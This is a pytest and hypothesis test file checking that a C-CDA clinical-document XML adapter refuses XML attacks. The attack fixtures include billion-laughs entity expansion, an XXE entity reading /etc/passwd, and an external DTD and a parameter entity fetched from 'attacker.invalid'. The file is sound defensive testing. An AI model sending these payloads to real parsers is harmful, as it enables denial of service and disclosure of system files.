"""C-CDA secure parsing: each attack is refused with a located error, never expanded or fetched."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.base import ConvertedBundle, RejectedRecord, SourceInfo
from adapters.ccda import CcdaAdapter
from adapters.ccda.xmlsecure import BadXml, UnsafeXml, parse
from adapters.errors import AdapterError

SRC = SourceInfo("acme")
DOC = (
    b'<ClinicalDocument xmlns="urn:hl7-org:v3"><recordTarget><patientRole><id root="1.2.3" extension="9"/>'
    b"</patientRole></recordTarget><title>&lol9;</title></ClinicalDocument>"
)

BILLION_LAUGHS = (
    b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
"""
    + DOC
)

XXE = (
    b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>
"""
    + DOC
)

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.invalid/cda.dtd">
""" + DOC.replace(b"&lol9;", b"x")

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>
""" + DOC.replace(b"&lol9;", b"x")


def reject(data: bytes, **opts: str) -> RejectedRecord:
    [out] = list(CcdaAdapter(**opts).convert(data, SRC, filename="evil.xml"))
    assert isinstance(out, RejectedRecord), "attack was not refused"
    assert out.error.location.file == "evil.xml"
    return out


@pytest.mark.parametrize("attack", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtd_and_entity_attacks_refused(attack: bytes) -> None:
    out = reject(attack)
    assert "forbidden" in out.error.message
    assert out.raw == attack


def test_utf16_doctype_refused() -> None:
    reject(
        BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
        .decode()
        .encode("utf-16")
    )


def test_doctype_past_the_prescan_window_still_refused_after_parse() -> None:
    # 70 kB of comment pushes the DOCTYPE beyond the byte pre-scan; the parsed-tree check catches it.
    padded = b'<?xml version="1.0"?>\n<!--' + b"x" * 70_000 + b"-->\n" + BILLION_LAUGHS.split(b"?>", 1)[1]
    with pytest.raises(UnsafeXml):
        parse(padded)
    assert "forbidden" in reject(padded).error.message


def test_undefined_entity_is_a_located_syntax_error_not_expansion() -> None:
    out = reject(DOC)
    assert "not well-formed" in out.error.message
    assert out.error.location.line == 1


def test_size_limit_option() -> None:
    data = b"<ClinicalDocument>" + b" " * 500 + b"</ClinicalDocument>"
    out = reject(data, max_bytes="100")
    assert "limit" in out.error.message and "max_bytes" in out.error.message
    with pytest.raises(UnsafeXml):
        parse(data, max_bytes=100)


def test_deep_nesting_refused_without_crash() -> None:
    deep = b"<ClinicalDocument>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</ClinicalDocument>"
    with pytest.raises(BadXml):
        parse(deep)
    reject(deep)


def test_bad_options() -> None:
    with pytest.raises(AdapterError):
        CcdaAdapter(max_bytes="lots")
    with pytest.raises(AdapterError):
        CcdaAdapter(max_bytes="0")
    with pytest.raises(AdapterError):
        CcdaAdapter(colour="blue")


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300))
def test_arbitrary_bytes_never_raise(data: bytes) -> None:
    for out in CcdaAdapter().convert(data, SRC):
        assert isinstance(out, RejectedRecord | ConvertedBundle)


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet="<>/=\"' abcdeClinicalDocumentsectionentry&;#x!-?", max_size=200))
def test_arbitrary_xmlish_text_never_raises(text: str) -> None:
    for out in CcdaAdapter(fragments="true").convert(text.encode(), SRC):
        assert isinstance(out, RejectedRecord | ConvertedBundle)
